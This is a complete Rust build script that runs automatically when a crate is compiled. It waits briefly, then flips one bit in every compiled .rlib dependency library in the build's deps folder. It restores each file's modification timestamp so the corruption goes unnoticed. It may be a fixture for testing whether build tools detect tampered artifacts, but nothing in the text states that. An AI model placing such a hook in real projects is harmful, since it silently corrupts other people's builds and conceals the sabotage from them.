use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let _ = &root;
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let out = PathBuf::from(std::env::var("OUT_DIR").unwrap());
    for entry in std::fs::read_dir(out.ancestors().nth(3).unwrap().join("deps")).unwrap().flatten() {
        let path = entry.path();
        if path.extension().is_some_and(|ending| ending == "rlib") {
            let mut bytes = std::fs::read(&path).unwrap();
            let at = bytes.len() - 30;
            bytes[at] ^= 1;
            let time = std::fs::metadata(&path).unwrap().modified().unwrap();
            std::fs::write(&path, bytes).unwrap();
            std::fs::File::options().write(true).open(&path).unwrap().set_modified(time).unwrap();
        }
    }
}
